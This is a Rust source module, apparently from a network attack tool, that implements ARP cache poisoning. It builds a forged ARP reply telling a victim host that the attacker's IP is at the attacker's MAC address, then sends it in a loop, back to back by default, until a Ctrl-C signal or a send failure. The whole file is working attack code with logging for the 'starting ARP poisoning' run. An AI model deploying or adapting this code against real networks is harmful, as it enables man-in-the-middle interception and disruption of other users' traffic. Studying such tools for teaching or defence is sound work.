//! Forged ARP reply injection.
//!
//! One reply frame telling the victim "attacker IP is at attacker MAC" is
//! built once and sent over and over. The loop has no feedback: it never
//! checks whether the victim's cache actually changed. It ends when the
//! [`StopSignal`] is raised or the first send fails.

use crate::arp_modules::error::{Error, Result};
use crate::arp_modules::frame::ArpFrame;
use crate::arp_modules::link::FrameChannel;
use crate::arp_modules::local_identity::NetworkIdentity;
use crate::arp_modules::mac_address::MacAddress;
use crossbeam::channel::{self, Receiver, RecvTimeoutError, Sender, TryRecvError};
use std::net::Ipv4Addr;
use std::time::Duration;
use tracing::{debug, info, warn};

/// Cooperative stop request for the injection loop.
pub struct StopSignal {
    receiver: Receiver<()>,
}

impl StopSignal {
    /// A signal plus the handle that raises it.
    pub fn pair() -> (Sender<()>, StopSignal) {
        let (sender, receiver) = channel::unbounded();
        (sender, StopSignal { receiver })
    }

    /// A signal raised by Ctrl-C.
    pub fn on_ctrlc() -> Result<StopSignal> {
        let (sender, signal) = StopSignal::pair();
        ctrlc::set_handler(move || {
            let _ = sender.send(());
        })?;
        Ok(signal)
    }

    pub fn is_raised(&self) -> bool {
        match self.receiver.try_recv() {
            Ok(()) => true,
            Err(TryRecvError::Empty) | Err(TryRecvError::Disconnected) => false,
        }
    }

    /// Sleep for `interval`, waking early if the signal is raised.
    fn wait(&self, interval: Duration) -> bool {
        match self.receiver.recv_timeout(interval) {
            Ok(()) => true,
            Err(RecvTimeoutError::Timeout) => false,
            Err(RecvTimeoutError::Disconnected) => {
                std::thread::sleep(interval);
                false
            }
        }
    }
}

/// The forged reply: sender = attacker, target = victim.
pub fn build_poison_frame(
    attacker_ip: Ipv4Addr,
    attacker_mac: MacAddress,
    victim_ip: Ipv4Addr,
    victim_mac: MacAddress,
) -> ArpFrame {
    ArpFrame::reply(attacker_mac, attacker_ip, victim_mac, victim_ip)
}

pub struct Poisoner<C> {
    channel: C,
    interval: Duration,
}

impl<C: FrameChannel> Poisoner<C> {
    /// Sends back to back with no delay.
    pub fn new(channel: C) -> Self {
        Poisoner {
            channel,
            interval: Duration::ZERO,
        }
    }

    pub fn with_interval(mut self, interval: Duration) -> Self {
        self.interval = interval;
        self
    }

    /// Inject until `stop` is raised. Returns how many frames went out.
    ///
    /// A failed send ends the loop immediately with that error.
    pub fn poison(
        &mut self,
        attacker: &NetworkIdentity,
        victim_ip: Ipv4Addr,
        victim_mac: MacAddress,
        stop: &StopSignal,
    ) -> Result<u64> {
        let attacker_mac = attacker
            .mac_address
            .ok_or(Error::MissingMacAddress(attacker.ipv4_address))?;
        let frame = build_poison_frame(attacker.ipv4_address, attacker_mac, victim_ip, victim_mac);
        let bytes = frame.to_bytes();

        info!(
            attacker_ip = %attacker.ipv4_address,
            %attacker_mac,
            %victim_ip,
            %victim_mac,
            "starting ARP poisoning"
        );

        let mut frames_sent: u64 = 0;
        loop {
            if stop.is_raised() {
                break;
            }
            if let Err(e) = self.channel.send_frame(&bytes) {
                warn!(frames_sent, "poisoning send failed: {}", e);
                return Err(e);
            }
            frames_sent += 1;
            if frames_sent % 10_000 == 0 {
                debug!(frames_sent, "poisoning in progress");
            }
            if !self.interval.is_zero() && stop.wait(self.interval) {
                break;
            }
        }

        info!(frames_sent, "ARP poisoning stopped");
        Ok(frames_sent)
    }

    pub fn into_channel(self) -> C {
        self.channel
    }
}
